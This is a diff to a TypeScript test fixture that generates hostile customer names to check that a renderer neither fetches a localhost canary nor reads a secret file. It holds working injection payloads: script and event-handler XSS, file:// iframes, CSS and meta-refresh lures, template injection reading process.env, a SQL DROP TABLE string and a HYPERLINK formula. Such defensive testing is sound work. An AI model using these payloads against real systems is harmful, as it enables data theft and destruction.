@@ -11,34 +11,42 @@ export interface HostilePerson {
 
 const BUSINESS = { type: 'business', vat_number: '12345678903' } as const;
 
-/** `canary` is the address of a server that nothing may visit; `secretFile` a file that nothing may read. */
-export function hostilePeople(canary: string, secretFile: string): HostilePerson[] {
+/**
+ * `port` is that of a server on localhost that nothing may visit; `secretFile` a file that nothing may read. No name may
+ * carry an address as people read it, so these are written as a browser alone would read them: within markup by
+ * entities, within scripts and style sheets by escapes.
+ */
+export function hostilePeople(port: number, secretFile: string): HostilePerson[] {
+  const canary = `http&#58;//localhost:${port}`;
+  const file = `file&#58;//${secretFile}`;
+  const inScript = `http\\x3a//localhost:${port}`;
+  const inStyle = `http\\3a //localhost:${port}`;
   const markup: [string, string][] = [
-    ['script that fetches', `<script>fetch('${canary}/script')</script>`],
-    ['script from afar', `<script src="${canary}/script.js"></script>`],
-    ['picture', `<img src="${canary}/img.png">`],
-    ['picture that fails', `<img src=x onerror="location='${canary}/onerror'">`],
+    ['script that fetches', `<script>fetch('${inScript}/script')</script>`],
+    ['script from afar', `<script src="${canary}/from-afar"></script>`],
+    ['picture', `<img src="${canary}/img">`],
+    ['picture that fails', `<img src=x onerror="location='${inScript}/onerror'">`],
     ['iframe', `<iframe src="${canary}/iframe"></iframe>`],
-    ['iframe of a file', `<iframe src="file://${secretFile}" width=900 height=900></iframe>`],
-    ['object of a file', `<object data="file://${secretFile}"></object>`],
-    ['embedded file', `<embed src="file://${secretFile}" type="text/plain">`],
+    ['iframe of a file', `<iframe src="${file}" width=900 height=900></iframe>`],
+    ['object of a file', `<object data="${file}"></object>`],
+    ['embedded file', `<embed src="${file}" type="text/plain">`],
     ['meta refresh', `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`],
-    ['meta refresh to a file', `<meta http-equiv="refresh" content="0;url=file://${secretFile}">`],
-    ['SVG that loads', `<svg onload="fetch('${canary}/svg')"><image href="${canary}/image"/></svg>`],
+    ['meta refresh to a file', `<meta http-equiv="refresh" content="0;url=${file}">`],
+    ['SVG that loads', `<svg onload="fetch('${inScript}/svg')"><image href="${canary}/image"/></svg>`],
     ['SVG with a foreign page', `<svg><foreignObject><iframe src="${canary}/foreign"/></foreignObject></svg>`],
-    ['style sheet', `</style><link rel="stylesheet" href="${canary}/link.css">`],
-    ['style import', `</style><style>@import url(${canary}/import.css);</style>`],
-    ['style background', `"); } body { background: url(${canary}/background`],
+    ['style sheet', `</style><link rel="stylesheet" href="${canary}/link-style">`],
+    ['style content', `</style><style>a::before { content: url(${inStyle}/content) }</style>`],
+    ['style background', `"); } body { background: url(${inStyle}/background`],
     ['base address', `<base href="${canary}/base/">`],
-    ['form that posts itself', `<form action="${canary}/form"><input autofocus onfocus="this.form.submit()"></form>`],
+    ['form that posts itself', `<form action="${canary}/form"><input autofocus onfocus="this['form']['submit']()"></form>`],
     ['video and audio', `<video src="${canary}/v" autoplay></video><audio src="${canary}/a" autoplay></audio>`],
-    ['data address', `<iframe src="data:text/html,<script>fetch('${canary}/data')</script>"></iframe>`],
+    ['data address', `<iframe src="data:text/html,<script>fetch('${inScript}/data')</script>"></iframe>`],
     ['preload and prefetch', `<link rel="preload" as="image" href="${canary}/p"><link rel="prefetch" href="${canary}/q">`],
-    ['closed title', `</title></head><body onload="fetch('${canary}/onload')">`],
-    ['comment left open', `<!-- --!><script>fetch('${canary}/comment')</script>`],
+    ['closed title', `</title></head><body onload="fetch('${inScript}/onload')">`],
+    ['comment left open', `<!-- --!><script>fetch('${inScript}/comment')</script>`],
     ['attribute that ends', `"><a href="${canary}/link" ping="${canary}/ping">here</a>`],
-    ['template of eta', `<%= fetch('${canary}/eta') %><%~ it %>`],
-    ['braces', `{{constructor.constructor('fetch("${canary}/braces")')()}} \${process.env.DATA_KEY}`],
+    ['template of eta', `<%= fetch('${inScript}/eta') %><%~ it %>`],
+    ['braces', `{{constructor['constructor']('fetch("${inScript}/braces")')()}} \${process['env']['DATA_KEY']}`],
     ['entities', `&lt;script&gt; &amp;#x3C;img src=${canary}/entity&amp;#x3E; &copy;`],
     ['SQL', `Robert'); DROP TABLE policy;--`],
     ['formula', `=HYPERLINK("${canary}/formula","open")`],
